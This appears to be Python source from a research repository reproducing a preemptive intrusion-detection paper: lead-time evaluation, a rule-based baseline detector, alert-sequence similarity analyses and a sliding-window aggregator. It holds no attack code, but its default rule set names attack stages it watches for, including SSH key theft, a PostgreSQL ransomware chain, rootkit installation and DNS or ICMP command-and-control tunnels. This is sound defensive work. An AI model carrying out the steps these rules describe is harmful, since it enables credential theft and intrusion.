        return self.outcome in (PreemptionOutcome.PREEMPTED, PreemptionOutcome.DETECTED_LATE)

    @property
    def lead_time_days(self) -> Optional[float]:
        """Lead time expressed in days (the unit the case study reports)."""
        if self.lead_time_seconds is None:
            return None
        return self.lead_time_seconds / 86_400.0


def evaluate_preemption(
    sequence: AlertSequence,
    detection: Optional[Detection],
    *,
    is_attack: bool = True,
    vocabulary: Optional[AlertVocabulary] = None,
) -> PreemptionResult:
    """Classify a detection against an attack's damage boundary.

    ``lead_time_seconds`` is positive when the detection precedes the
    damage boundary (a preemption), negative when it trails it, and
    measured to the end of the sequence when the attack never reached a
    damage alert (in which case any detection counts as preemption).
    """
    vocab = vocabulary or DEFAULT_VOCABULARY
    if not is_attack:
        return PreemptionResult(
            outcome=PreemptionOutcome.NOT_APPLICABLE,
            detection=detection,
            damage=DamageBoundary(None, None, None),
            lead_time_seconds=None,
            alerts_before_damage=None,
        )
    damage = find_damage_boundary(sequence, vocab)
    if detection is None:
        return PreemptionResult(
            outcome=PreemptionOutcome.MISSED,
            detection=None,
            damage=damage,
            lead_time_seconds=None,
            alerts_before_damage=None,
        )
    if damage.has_damage:
        assert damage.timestamp is not None and damage.alert_index is not None
        lead = damage.timestamp - detection.timestamp
        alerts_before = damage.alert_index - detection.alert_index
        if detection.timestamp < damage.timestamp:
            outcome = PreemptionOutcome.PREEMPTED
        else:
            outcome = PreemptionOutcome.DETECTED_LATE
        return PreemptionResult(
            outcome=outcome,
            detection=detection,
            damage=damage,
            lead_time_seconds=lead,
            alerts_before_damage=alerts_before,
        )
    # The attack never reached damage (it was still in progress); any
    # detection preempts it, with lead time measured to the last alert.
    last_timestamp = sequence[-1].timestamp if len(sequence) else detection.timestamp
    return PreemptionResult(
        outcome=PreemptionOutcome.PREEMPTED,
        detection=detection,
        damage=damage,
        lead_time_seconds=max(0.0, last_timestamp - detection.timestamp),
        alerts_before_damage=(len(sequence) - 1 - detection.alert_index) if len(sequence) else 0,
    )


def summarize_outcomes(results: Sequence[PreemptionResult]) -> dict[str, float]:
    """Aggregate preemption statistics over many attacks.

    Returns counts plus the preemption rate, detection rate, and the
    mean/median lead time (in seconds) over preempted attacks.
    """
    attack_results = [r for r in results if r.outcome is not PreemptionOutcome.NOT_APPLICABLE]
    preempted = [r for r in attack_results if r.preempted]
    detected = [r for r in attack_results if r.detected]
    lead_times = sorted(
        r.lead_time_seconds for r in preempted if r.lead_time_seconds is not None
    )
    def _mean(values: list[float]) -> float:
        return sum(values) / len(values) if values else 0.0
    def _median(values: list[float]) -> float:
        if not values:
            return 0.0
        mid = len(values) // 2
        if len(values) % 2:
            return values[mid]
        return 0.5 * (values[mid - 1] + values[mid])
    total = len(attack_results)
    return {
        "num_attacks": float(total),
        "num_preempted": float(len(preempted)),
        "num_detected": float(len(detected)),
        "num_missed": float(total - len(detected)),
        "preemption_rate": len(preempted) / total if total else 0.0,
        "detection_rate": len(detected) / total if total else 0.0,
        "mean_lead_seconds": _mean(lead_times),
        "median_lead_seconds": _median(lead_times),
    }


def preemptable_window(
    sequence: AlertSequence,
    vocabulary: Optional[AlertVocabulary] = None,
) -> AlertSequence:
    """The prefix of an attack during which preemption is still possible.

    This is the sub-sequence strictly before the damage boundary -- the
    two-to-four-alert regime the paper identifies as the effective range
    of a preemption model.
    """
    vocab = vocabulary or DEFAULT_VOCABULARY
    damage = find_damage_boundary(sequence, vocab)
    if not damage.has_damage:
        return sequence
    assert damage.alert_index is not None
    return sequence.prefix(damage.alert_index)


def stage_reached(sequence: AlertSequence, vocabulary: Optional[AlertVocabulary] = None) -> AttackStage:
    """The most mature lifecycle stage the attack reached."""
    vocab = vocabulary or DEFAULT_VOCABULARY
    stages = [vocab.get(a.name).stage for a in sequence]
    return max(stages) if stages else AttackStage.BACKGROUND


__all__ = [
    "PreemptionOutcome",
    "DamageBoundary",
    "find_damage_boundary",
    "PreemptionResult",
    "evaluate_preemption",
    "summarize_outcomes",
    "preemptable_window",
    "stage_reached",
]
