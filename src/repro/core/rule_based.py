"""Rule-based baseline detector.

The paper deploys both the factor-graph model and a rule-based detector
(citing Cao et al. 2015, "Preemptive intrusion detection") on the
testbed.  This module provides a faithful rule-engine baseline: a set
of declarative rules, each firing on a single alert type, an alert
count within a window, or an ordered signature of alert types, with a
per-rule severity and action.

Compared to the factor-graph model the rule engine has no notion of
conditional probability (Remark 2): a rule either matches or it does
not, which is exactly why it either floods operators with scan alerts
or misses slow multi-stage attacks -- the trade-off the evaluation
benchmarks quantify.
"""

from __future__ import annotations

import dataclasses
import enum
import sys
from typing import Dict, Iterable, List, Optional, Sequence

from .alerts import Alert, AlertVocabulary, DEFAULT_VOCABULARY
from .attack_tagger import Detection
from .sequences import is_subsequence
from .states import HiddenState


class RuleKind(enum.Enum):
    """The three matching modes a rule can use."""

    SINGLE_ALERT = "single_alert"
    THRESHOLD = "threshold"
    SIGNATURE = "signature"


@dataclasses.dataclass(frozen=True)
class Rule:
    """One declarative detection rule.

    Attributes
    ----------
    name:
        Unique rule identifier.
    kind:
        Matching mode.
    alert_names:
        For ``SINGLE_ALERT``: a set of alert types, any of which fires
        the rule.  For ``THRESHOLD``: the alert types counted toward the
        threshold.  For ``SIGNATURE``: the ordered alert-type sequence
        that must appear as a subsequence.
    threshold:
        Minimum count (``THRESHOLD`` rules only).
    window_seconds:
        Time window for counting (``THRESHOLD`` rules only; ``None``
        means unbounded).
    description:
        Operator-facing explanation.
    """

    name: str
    kind: RuleKind
    alert_names: tuple[str, ...]
    threshold: int = 1
    window_seconds: Optional[float] = None
    description: str = ""

    def __post_init__(self) -> None:
        if not self.alert_names:
            raise ValueError(f"rule {self.name!r} must reference at least one alert type")
        if self.kind is RuleKind.THRESHOLD and self.threshold < 1:
            raise ValueError(f"rule {self.name!r}: threshold must be >= 1")

    def matches(self, alerts: Sequence[Alert]) -> bool:
        """Whether this rule matches the entity's alert history."""
        if not alerts:
            return False
        if self.kind is RuleKind.SINGLE_ALERT:
            wanted = set(self.alert_names)
            return any(a.name in wanted for a in alerts)
        if self.kind is RuleKind.THRESHOLD:
            wanted = set(self.alert_names)
            relevant = [a for a in alerts if a.name in wanted]
            if self.window_seconds is None:
                return len(relevant) >= self.threshold
            latest = alerts[-1].timestamp
            in_window = [a for a in relevant if latest - a.timestamp <= self.window_seconds]
            return len(in_window) >= self.threshold
        if self.kind is RuleKind.SIGNATURE:
            names = [a.name for a in alerts]
            return is_subsequence(self.alert_names, names)
        raise AssertionError(f"unhandled rule kind {self.kind}")


def default_ruleset(vocabulary: Optional[AlertVocabulary] = None) -> list[Rule]:
    """The rule set an experienced HPC security operator would write.

    It alerts on every critical alert type, on brute-force bursts, and
    on the handful of well-known multi-stage signatures (the
    download/compile/erase pattern, the PostgreSQL ransomware chain, and
    SSH-key lateral movement).
    """
    vocab = vocabulary or DEFAULT_VOCABULARY
    rules: list[Rule] = [
        Rule(
            name="rule_critical_alert",
            kind=RuleKind.SINGLE_ALERT,
            alert_names=tuple(vocab.critical_names()),
            description="Any critical alert indicates a (late-stage) compromise.",
        ),
        Rule(
            name="rule_bruteforce_burst",
            kind=RuleKind.THRESHOLD,
            alert_names=("alert_bruteforce_ssh", "alert_login_failure_burst"),
            threshold=5,
            window_seconds=3600.0,
            description="Five or more brute-force alerts within an hour.",
        ),
        Rule(
            name="rule_scan_burst",
            kind=RuleKind.THRESHOLD,
            alert_names=("alert_port_scan", "alert_vuln_scan", "alert_address_sweep"),
            threshold=10,
            window_seconds=3600.0,
            description="Sustained scanning from one source.",
        ),
        Rule(
            name="rule_download_compile_erase",
            kind=RuleKind.SIGNATURE,
            alert_names=(
                "alert_download_sensitive",
                "alert_compile_kernel_module",
                "alert_erase_forensic_trace",
            ),
            description="The 2002-era rootkit installation signature (still seen in 2024).",
        ),
        Rule(
            name="rule_postgres_ransomware",
            kind=RuleKind.SIGNATURE,
            alert_names=(
                "alert_db_default_password_login",
                "alert_service_version_probe",
                "alert_db_largeobject_payload",
            ),
            description="PostgreSQL ransomware staging chain.",
        ),
        Rule(
            name="rule_ssh_lateral_movement",
            kind=RuleKind.SIGNATURE,
            alert_names=(
                "alert_ssh_key_enumeration",
                "alert_lateral_ssh_batch",
            ),
            description="Bulk SSH key theft followed by batch-mode fan-out.",
        ),
        Rule(
            name="rule_outbound_c2",
            kind=RuleKind.SINGLE_ALERT,
            alert_names=("alert_outbound_c2", "alert_dns_tunnel", "alert_icmp_tunnel"),
            description="Command-and-control channel established.",
        ),
    ]
    return rules


class RuleBasedDetector:
    """Streaming rule-engine baseline with the same API as AttackTagger."""

    def __init__(
        self,
        rules: Optional[Sequence[Rule]] = None,
        *,
        vocabulary: Optional[AlertVocabulary] = None,
        max_window: int = 256,
        ignore_rules: Iterable[str] = (),
    ) -> None:
        self.vocabulary = vocabulary or DEFAULT_VOCABULARY
        self.rules: list[Rule] = list(rules) if rules is not None else default_ruleset(self.vocabulary)
        ignored = set(ignore_rules)
        self.rules = [r for r in self.rules if r.name not in ignored]
        self.max_window = int(max_window)
        self._history: Dict[str, List[Alert]] = {}
        self._detections: List[Detection] = []
        self._detected_entities: set[str] = set()
        self._fired: Dict[str, List[str]] = {}

    @property
    def detections(self) -> list[Detection]:
        """All detections emitted so far."""
        return list(self._detections)

    def fired_rules(self, entity: str) -> list[str]:
        """Names of rules that have fired for an entity."""
        return list(self._fired.get(entity, []))

    def reset(self) -> None:
        """Forget all per-entity state."""
        self._history.clear()
        self._detections.clear()
        self._detected_entities.clear()
        self._fired.clear()

    def reset_entity(self, entity: str) -> None:
        """Forget a single entity."""
        self._history.pop(entity, None)
        self._fired.pop(entity, None)
        self._detected_entities.discard(entity)

    def __getstate__(self) -> dict:
        """Canonical pickle: set-valued state as a sorted tuple.

        A raw ``set`` pickles in iteration order, which depends on the
        per-process hash seed and insertion history — checkpoint →
        restore → checkpoint would not be byte-identical.
        """
        state = self.__dict__.copy()
        state["_detected_entities"] = tuple(sorted(self._detected_entities))
        return state

    def __setstate__(self, state: dict) -> None:
        # Intern keys exactly as pickle's default BUILD path does, so a
        # restored instance re-pickles to the same bytes (memo hits on
        # the shared attribute-name strings).
        self.__dict__.update((sys.intern(k), v) for k, v in state.items())
        self._detected_entities = set(state["_detected_entities"])

    def observe(self, alert: Alert) -> Optional[Detection]:
        """Consume one alert, returning a detection if any rule fires."""
        history = self._history.setdefault(alert.entity, [])
        history.append(alert)
        if len(history) > self.max_window:
            del history[: len(history) - self.max_window]
        fired = self._fired.setdefault(alert.entity, [])
        newly_fired = [
            rule for rule in self.rules if rule.name not in fired and rule.matches(history)
        ]
        fired.extend(rule.name for rule in newly_fired)
        if not newly_fired or alert.entity in self._detected_entities:
            return None
        detection = Detection(
            entity=alert.entity,
            timestamp=alert.timestamp,
            alert_index=len(history) - 1,
            trigger=alert,
            state=HiddenState.MALICIOUS,
            confidence=1.0,
            matched_patterns=tuple(rule.name for rule in newly_fired),
        )
        self._detected_entities.add(alert.entity)
        self._detections.append(detection)
        return detection

    def observe_many(self, alerts: Iterable[Alert]) -> list[Detection]:
        """Consume a batch of alerts."""
        out = []
        for alert in alerts:
            detection = self.observe(alert)
            if detection is not None:
                out.append(detection)
        return out

    def observe_batch(self, alerts: Iterable[Alert]) -> list[Detection]:
        """Batch stage entry point of the :class:`repro.core.detector.Detector` protocol."""
        return self.observe_many(alerts)

    def run_sequence(self, sequence, entity: Optional[str] = None) -> Optional[Detection]:
        """Offline helper mirroring :meth:`AttackTagger.run_sequence`."""
        entity = entity or (sequence[0].entity if len(sequence) else "entity:eval")
        self.reset_entity(entity)
        detection: Optional[Detection] = None
        for alert in sequence:
            result = self.observe(alert.with_entity(entity))
            if result is not None and detection is None:
                detection = result
        return detection


__all__ = ["RuleKind", "Rule", "default_ruleset", "RuleBasedDetector"]
