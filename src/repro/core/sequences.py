"""Alert sequences and the sequence analyses used by the paper.

Two sequence statistics drive the paper's measurement study:

* **Pairwise Jaccard similarity** of the alert *sets* of two attacks
  (Fig. 3a) -- the fraction of alert types the attacks share.  The
  paper reports that more than 95 % of attack pairs share up to 33 %
  of their alerts, and that the shared alerts correspond to common
  foothold-establishment vectors.
* **Longest common event subsequences** (Fig. 3b) -- recurring ordered
  alert patterns (named S1..S43) mined across incidents, with lengths
  from two to fourteen alerts and the most frequent pattern appearing
  14 times across the >200 incidents.

This module provides :class:`AlertSequence` (an ordered view over the
alerts of one incident/entity) plus vectorised implementations of
Jaccard similarity, longest-common-subsequence (LCS) computation, and
subsequence containment tests used by the pattern factors of the
detection model.
"""

from __future__ import annotations

import dataclasses
from functools import cached_property
from typing import Iterable, Iterator, Optional, Sequence

import numpy as np

from .alerts import Alert, AlertVocabulary, DEFAULT_VOCABULARY


@dataclasses.dataclass(frozen=True)
class AlertSequence:
    """An ordered sequence of alerts attributed to one entity/incident.

    The sequence stores both full :class:`Alert` records and the
    derived tuple of symbolic names, which is what the similarity and
    pattern-matching analyses operate on.
    """

    alerts: tuple[Alert, ...]

    def __post_init__(self) -> None:
        timestamps = [a.timestamp for a in self.alerts]
        if any(b < a for a, b in zip(timestamps, timestamps[1:])):
            raise ValueError("alerts in an AlertSequence must be time-ordered")

    # -- construction ----------------------------------------------------
    @classmethod
    def from_alerts(cls, alerts: Iterable[Alert]) -> "AlertSequence":
        """Build a sequence from an arbitrary iterable of alerts (sorted)."""
        return cls(tuple(sorted(alerts, key=lambda a: a.timestamp)))

    @classmethod
    def from_names(
        cls,
        names: Sequence[str],
        *,
        entity: str = "entity:synthetic",
        start: float = 0.0,
        step: float = 60.0,
    ) -> "AlertSequence":
        """Build a synthetic sequence from symbolic names only.

        Used heavily in tests and in pattern definitions, where only
        the ordering of symbols matters.
        """
        alerts = tuple(
            Alert(timestamp=start + i * step, name=name, entity=entity)
            for i, name in enumerate(names)
        )
        return cls(alerts)

    # -- basic protocol ----------------------------------------------------
    def __len__(self) -> int:
        return len(self.alerts)

    def __iter__(self) -> Iterator[Alert]:
        return iter(self.alerts)

    def __getitem__(self, index: int) -> Alert:
        return self.alerts[index]

    def __bool__(self) -> bool:
        return bool(self.alerts)

    # -- derived views -------------------------------------------------------
    # Cached because these sit inside per-alert hot paths (pattern
    # matching, similarity analyses); the dataclass is frozen and
    # ``cached_property`` writes straight into ``__dict__``, bypassing
    # the frozen ``__setattr__``.
    @cached_property
    def names(self) -> tuple[str, ...]:
        """Symbolic alert names, in time order (computed once)."""
        return tuple(a.name for a in self.alerts)

    @cached_property
    def name_set(self) -> frozenset[str]:
        """Unique symbolic alert names (computed once)."""
        return frozenset(a.name for a in self.alerts)

    @property
    def duration(self) -> float:
        """Seconds between the first and last alert (0 for length <= 1)."""
        if len(self.alerts) < 2:
            return 0.0
        return self.alerts[-1].timestamp - self.alerts[0].timestamp

    def inter_alert_gaps(self) -> np.ndarray:
        """Gaps (seconds) between consecutive alerts."""
        if len(self.alerts) < 2:
            return np.empty(0, dtype=float)
        times = np.array([a.timestamp for a in self.alerts], dtype=float)
        return np.diff(times)

    def critical_alerts(self, vocabulary: Optional[AlertVocabulary] = None) -> list[Alert]:
        """Alerts in this sequence whose type is critical."""
        vocab = vocabulary or DEFAULT_VOCABULARY
        return [a for a in self.alerts if vocab.get(a.name).critical]

    def prefix(self, length: int) -> "AlertSequence":
        """First ``length`` alerts (the observation window of a detector)."""
        return AlertSequence(self.alerts[: max(0, length)])

    def up_to(self, timestamp: float) -> "AlertSequence":
        """Alerts observed at or before ``timestamp``."""
        return AlertSequence(tuple(a for a in self.alerts if a.timestamp <= timestamp))

    def filtered(self, names: Iterable[str]) -> "AlertSequence":
        """Sub-sequence containing only alerts whose name is in ``names``."""
        keep = set(names)
        return AlertSequence(tuple(a for a in self.alerts if a.name in keep))


# ---------------------------------------------------------------------------
# Jaccard similarity
# ---------------------------------------------------------------------------

def jaccard_similarity(a: Iterable[str], b: Iterable[str]) -> float:
    """Jaccard similarity of two collections of alert names.

    Returns ``|A ∩ B| / |A ∪ B|``; two empty collections are defined to
    have similarity 0.0 (they share no attack evidence).
    """
    sa, sb = set(a), set(b)
    union = sa | sb
    if not union:
        return 0.0
    return len(sa & sb) / len(union)


def pairwise_jaccard_matrix(
    sequences: Sequence[AlertSequence],
    vocabulary: Optional[AlertVocabulary] = None,
) -> np.ndarray:
    """Dense pairwise Jaccard similarity matrix over alert-name sets.

    Vectorised: each sequence is encoded as a binary membership vector
    over the vocabulary, and intersections/unions are computed with a
    single matrix product (per the HPC guides: replace the O(n^2)
    Python double loop with BLAS).
    """
    vocab = vocabulary or DEFAULT_VOCABULARY
    n = len(sequences)
    if n == 0:
        return np.zeros((0, 0), dtype=float)
    membership = np.zeros((n, len(vocab)), dtype=np.float64)
    for i, seq in enumerate(sequences):
        # staticcheck: disable=determinism -- order-insensitive: each name sets one membership flag to 1.0
        for name in seq.name_set:
            membership[i, vocab.index_of(name)] = 1.0
    sizes = membership.sum(axis=1)
    intersection = membership @ membership.T
    union = sizes[:, None] + sizes[None, :] - intersection
    with np.errstate(divide="ignore", invalid="ignore"):
        sim = np.where(union > 0, intersection / np.maximum(union, 1e-12), 0.0)
    np.fill_diagonal(sim, 1.0)
    # Sequences that are completely empty have no self-similarity either.
    empty = sizes == 0
    if empty.any():
        sim[empty, :] = 0.0
        sim[:, empty] = 0.0
    return sim


def similarity_cdf(matrix: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
    """Empirical CDF of the off-diagonal pairwise similarities.

    Returns ``(values, cumulative_fraction)`` suitable for plotting the
    paper's Fig. 3a.  ``values`` are the sorted unique similarities and
    ``cumulative_fraction[i]`` is the fraction of attack pairs whose
    similarity is <= ``values[i]``.
    """
    n = matrix.shape[0]
    if n < 2:
        return np.array([0.0]), np.array([1.0])
    iu = np.triu_indices(n, k=1)
    sims = np.sort(matrix[iu])
    values, counts = np.unique(sims, return_counts=True)
    cumulative = np.cumsum(counts) / sims.size
    return values, cumulative


def fraction_of_pairs_below(matrix: np.ndarray, threshold: float) -> float:
    """Fraction of attack pairs whose similarity is <= ``threshold``.

    The paper's headline statistic is
    ``fraction_of_pairs_below(M, 0.33) > 0.95``.
    """
    n = matrix.shape[0]
    if n < 2:
        return 1.0
    iu = np.triu_indices(n, k=1)
    sims = matrix[iu]
    return float(np.mean(sims <= threshold))


# ---------------------------------------------------------------------------
# Longest common subsequence
# ---------------------------------------------------------------------------

def _encode_symbols(
    sequences: Iterable[Sequence[str]], codes: Optional[dict[str, int]] = None
) -> list[np.ndarray]:
    """Map symbol sequences to integer arrays (shared code book)."""
    if codes is None:
        codes = {}
    encoded = []
    for sequence in sequences:
        encoded.append(
            np.fromiter(
                (codes.setdefault(symbol, len(codes)) for symbol in sequence),
                dtype=np.int32,
                count=len(sequence),
            )
        )
    return encoded


def _lcs_table(a_codes: np.ndarray, b_codes: np.ndarray) -> np.ndarray:
    """Full LCS dynamic-programming table, one vectorised row at a time.

    Uses the standard identities ``L[i, j] = L[i-1, j-1] + 1`` on a
    match (always optimal) and ``max(L[i-1, j], L[i, j-1])`` otherwise;
    because LCS rows are non-decreasing, the in-row dependency reduces
    to a running maximum (``np.maximum.accumulate``), eliminating the
    O(len(b)) inner Python loop.
    """
    la, lb = a_codes.shape[0], b_codes.shape[0]
    table = np.zeros((la + 1, lb + 1), dtype=np.int32)
    for i in range(1, la + 1):
        prev = table[i - 1]
        candidate = np.where(b_codes == a_codes[i - 1], prev[:lb] + 1, prev[1:])
        np.maximum.accumulate(candidate, out=table[i, 1:])
    return table


def _lcs_length_coded(a_codes: np.ndarray, b_codes: np.ndarray) -> int:
    """LCS length only, with two rolling rows (no table, no backtrack)."""
    la, lb = a_codes.shape[0], b_codes.shape[0]
    if la == 0 or lb == 0:
        return 0
    if la < lb:  # iterate over the shorter sequence
        a_codes, b_codes, la, lb = b_codes, a_codes, lb, la
    prev = np.zeros(lb + 1, dtype=np.int32)
    row = np.zeros(lb + 1, dtype=np.int32)
    for i in range(la):
        candidate = np.where(b_codes == a_codes[i], prev[:lb] + 1, prev[1:])
        np.maximum.accumulate(candidate, out=row[1:])
        prev, row = row, prev
    return int(prev[-1])


def longest_common_subsequence(a: Sequence[str], b: Sequence[str]) -> tuple[str, ...]:
    """Longest common (not necessarily contiguous) subsequence of two
    symbol sequences.

    Classic dynamic program with a vectorised row update (see
    :func:`_lcs_table`); only the backtrack walks element-by-element.
    """
    la, lb = len(a), len(b)
    if la == 0 or lb == 0:
        return ()
    a_codes, b_codes = _encode_symbols([a, b])
    table = _lcs_table(a_codes, b_codes)
    # Backtrack.
    result: list[str] = []
    i, j = la, lb
    while i > 0 and j > 0:
        if a[i - 1] == b[j - 1]:
            result.append(a[i - 1])
            i -= 1
            j -= 1
        elif table[i - 1, j] >= table[i, j - 1]:
            i -= 1
        else:
            j -= 1
    return tuple(reversed(result))


def lcs_length(a: Sequence[str], b: Sequence[str]) -> int:
    """Length of the longest common subsequence (no backtrack, O(min) memory)."""
    a_codes, b_codes = _encode_symbols([a, b])
    return _lcs_length_coded(a_codes, b_codes)


def lcs_length_matrix(sequences: Sequence[AlertSequence]) -> np.ndarray:
    """Matrix of pairwise LCS lengths between incident alert sequences.

    Sequences are integer-encoded once against a shared code book and
    each pair runs the length-only rolling computation -- no
    subsequence is materialised just to take its length.
    """
    n = len(sequences)
    out = np.zeros((n, n), dtype=np.int32)
    encoded = _encode_symbols([seq.names for seq in sequences])
    for i in range(n):
        out[i, i] = encoded[i].shape[0]
        for j in range(i + 1, n):
            length = _lcs_length_coded(encoded[i], encoded[j])
            out[i, j] = length
            out[j, i] = length
    return out


def is_subsequence(pattern: Sequence[str], names: Sequence[str]) -> bool:
    """Whether ``pattern`` occurs in ``names`` as an ordered subsequence.

    This is the containment test the pattern factors use: the alerts of
    a known attack pattern must appear in order, but other alerts may
    be interleaved (real attacks are interleaved with benign activity).
    """
    if not pattern:
        return True
    it = iter(names)
    return all(any(symbol == candidate for candidate in it) for symbol in pattern)


def subsequence_positions(pattern: Sequence[str], names: Sequence[str]) -> Optional[list[int]]:
    """Indices in ``names`` at which ``pattern`` matches as a subsequence.

    Returns the earliest (greedy) match or ``None`` when the pattern is
    not contained.  Detectors use the last index to know *when* the
    pattern completed.
    """
    positions: list[int] = []
    start = 0
    for symbol in pattern:
        found = None
        for idx in range(start, len(names)):
            if names[idx] == symbol:
                found = idx
                break
        if found is None:
            return None
        positions.append(found)
        start = found + 1
    return positions


def matched_prefix_length(pattern: Sequence[str], names: Sequence[str]) -> int:
    """Length of the longest prefix of ``pattern`` contained in ``names``.

    A partially matched pattern is evidence that an attack is *in
    progress* -- precisely the regime (two to four alerts observed) in
    which the paper argues preemption is possible.
    """
    matched = 0
    start = 0
    for symbol in pattern:
        found = None
        for idx in range(start, len(names)):
            if names[idx] == symbol:
                found = idx
                break
        if found is None:
            break
        matched += 1
        start = found + 1
    return matched


__all__ = [
    "AlertSequence",
    "jaccard_similarity",
    "pairwise_jaccard_matrix",
    "similarity_cdf",
    "fraction_of_pairs_below",
    "longest_common_subsequence",
    "lcs_length",
    "lcs_length_matrix",
    "is_subsequence",
    "subsequence_positions",
    "matched_prefix_length",
]
