"""Amortised sliding-window aggregation of chain step matrices.

The windowed chain decode over steps ``s .. t`` is a semiring product

.. math::

    h_s \\otimes M_{s+1} \\otimes M_{s+2} \\otimes \\cdots \\otimes M_t

where ``h_s`` is the head vector (the window's first effective unary
row, including the initial-state prior) and ``M_j`` is the step matrix
``transition + unary_j`` (:func:`repro.core.factor_graph
.chain_step_matrix`).  Under the ``(max, +)`` semiring the product is
the final Viterbi score vector; under ``(logsumexp, +)`` it is the
unnormalised forward message.  Appending a step extends the product on
the right; *evicting* the oldest step removes a factor from the left --
the operation that previously forced an O(W * K^2) sequential rebuild
of the whole window.

:class:`SlidingProductWindow` maintains the product of the queued step
matrices with the classic two-stack (SWAG / DABA-style) sliding
aggregation:

* the **back stack** holds recently pushed step matrices together with
  their running left-to-right *prefix* products,
* the **front stack** holds the older steps with right-to-left *suffix*
  products, arranged so the top entry is always the product of *all*
  remaining front elements.

``push`` folds one matrix into the back prefixes (two K^3 semiring
products, one per semiring); ``pop_front`` pops the front stack,
*flipping* the back stack into suffix products when the front runs dry.
Each element is flipped at most once, so eviction is O(K^3) amortised.
Querying the window product applies the head vector to (at most) the
front-top suffix and the last back prefix -- O(K^2).

Pattern-bonus relocation edits the unary row of a step already inside
the queue.  Because both stacks keep the raw step matrices next to
their aggregates, :meth:`replace` patches *partially*: a back-region
edit refolds the prefixes from the edited position to the newest
element, a front-region edit recomputes the suffixes from the edited
position to the oldest.  Greedy-leftmost pattern matches cluster their
bonus steps near the window boundaries, so the typical patch is O(K^3)
with an O(W * K^3) worst case -- the exact re-aggregation
(:meth:`rebuild`) remains the fallback for indices the structure does
not hold.

The aggregate is mathematically exact but floating-point *reassociated*
relative to the sequential recursion, so its values can differ from the
rebuild path in the last few ulps.  Callers that need bit-identical
results (the detector's emitted detections must match the seed path
bit-for-bit) use the aggregate only for guard-banded *decisions* and
fall back to the exact sequential decode when a decision is within the
guard band -- see ``StreamingDecoder.may_fire``.
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Optional, Tuple

import numpy as np

from .factor_graph import (
    logsumexp_matmul,
    maxplus_matmul,
)


class SlidingProductWindow:
    """Two-stack sliding product of step matrices under both semirings.

    Elements are pushed with strictly increasing, contiguous integer
    indices (the decoder's absolute step indices) and evicted from the
    front in the same order.
    """

    __slots__ = (
        "_front_indices",
        "_front_matrices",
        "_front_max",
        "_front_lse",
        "_back_indices",
        "_back_matrices",
        "_back_max",
        "_back_lse",
        "_scratch",
    )

    def __init__(self) -> None:
        # Front stack: list end = stack top = the *oldest* remaining
        # element; _front_max/_front_lse[q] aggregate every front
        # element from position q's step to the newest front step.
        self._front_indices: List[int] = []
        self._front_matrices: List[np.ndarray] = []
        self._front_max: List[np.ndarray] = []
        self._front_lse: List[np.ndarray] = []
        # Back stack: list end = the newest element; _back_max/
        # _back_lse[q] aggregate the back elements up to position q, so
        # the last entry is the whole back product.
        self._back_indices: List[int] = []
        self._back_matrices: List[np.ndarray] = []
        self._back_max: List[np.ndarray] = []
        self._back_lse: List[np.ndarray] = []
        # Reusable (K, K) fold buffer for apply(); lazily sized, never
        # escapes (the returned vectors are fresh reductions of it).
        self._scratch: Optional[np.ndarray] = None

    def __len__(self) -> int:
        return len(self._front_indices) + len(self._back_indices)

    def __getstate__(self) -> Dict[str, object]:
        # Slotted class: build the state dict by hand, dropping the
        # scratch buffer so pickled windows stay canonical (checkpoint
        # bytes must not depend on whether apply() ever ran).
        return {
            slot: getattr(self, slot) for slot in self.__slots__ if slot != "_scratch"
        }

    def __setstate__(self, state: Dict[str, object]) -> None:
        for slot, value in state.items():
            setattr(self, slot, value)
        self._scratch = None

    # -- mutation ----------------------------------------------------------
    def push(self, index: int, matrix: np.ndarray) -> None:
        """Append one step matrix on the right: O(K^3)."""
        self._back_indices.append(index)
        self._back_matrices.append(matrix)
        if self._back_max:
            self._back_max.append(maxplus_matmul(self._back_max[-1], matrix))
            self._back_lse.append(logsumexp_matmul(self._back_lse[-1], matrix))
        else:
            self._back_max.append(matrix)
            self._back_lse.append(matrix)

    def push_aggregated(
        self,
        index: int,
        matrix: np.ndarray,
        aggregate_max: np.ndarray,
        aggregate_lse: np.ndarray,
    ) -> None:
        """Append a step whose prefix products were computed externally.

        The batched decode kernel folds the back-prefix products for
        many windows in one stacked call and scatters the results here.
        The caller guarantees the aggregates equal what :meth:`push`
        would have produced (bit-for-bit when the back stack is
        non-empty; ``matrix`` itself — the same object in both aggregate
        slots, as :meth:`push` does — when it is empty).  None of the
        three arrays may be mutated afterwards.
        """
        self._back_indices.append(index)
        self._back_matrices.append(matrix)
        self._back_max.append(aggregate_max)
        self._back_lse.append(aggregate_lse)

    def pop_front(self) -> int:
        """Evict the oldest step: O(K^3) amortised.  Returns its index."""
        if not self._front_indices:
            self._flip()
        if not self._front_indices:
            raise IndexError("pop from an empty SlidingProductWindow")
        self._front_matrices.pop()
        self._front_max.pop()
        self._front_lse.pop()
        return self._front_indices.pop()

    def replace(self, index: int, matrix: np.ndarray) -> bool:
        """Swap the matrix of one queued step after its unary row changed.

        Only the aggregates that cover the edited step are recomputed:
        back-region prefixes from the edited position rightwards,
        front-region suffixes from the edited position towards the
        oldest element.  Returns ``False`` for an index the structure
        does not hold (the caller's cue to fall back to the exact
        :meth:`rebuild`).
        """
        back = self._back_indices
        if back and back[0] <= index <= back[-1]:
            position = index - back[0]
            self._back_matrices[position] = matrix
            self._refold_back(position)
            return True
        front = self._front_indices
        if front and front[-1] <= index <= front[0]:
            # Front positions run newest (0) to oldest (end); suffix at
            # position q folds the matrices at positions <= q, so the
            # edit invalidates suffixes from its position to the top.
            position = front[0] - index
            self._front_matrices[position] = matrix
            self._recompute_front(position)
            return True
        return False

    def rebuild(self, indices: Iterable[int], matrices: Iterable[np.ndarray]) -> None:
        """Re-aggregate from scratch: everything into front suffix products."""
        for stack in (
            self._front_indices,
            self._front_matrices,
            self._front_max,
            self._front_lse,
            self._back_indices,
            self._back_matrices,
            self._back_max,
            self._back_lse,
        ):
            stack.clear()
        pairs = list(zip(indices, matrices))
        for index, matrix in reversed(pairs):
            self._front_indices.append(index)
            self._front_matrices.append(matrix)
        self._recompute_front(0)

    def shift(self, delta: int) -> None:
        """Rebase all stored step indices by ``-delta`` (buffer compaction)."""
        self._front_indices = [i - delta for i in self._front_indices]
        self._back_indices = [i - delta for i in self._back_indices]

    # -- queries -----------------------------------------------------------
    def apply(self, head: np.ndarray) -> Tuple[np.ndarray, np.ndarray]:
        """Window products ``head ⊗ M_(s+1) ⊗ ... ⊗ M_t``: O(K^2).

        Returns ``(viterbi_score, forward_log)`` -- the final Viterbi
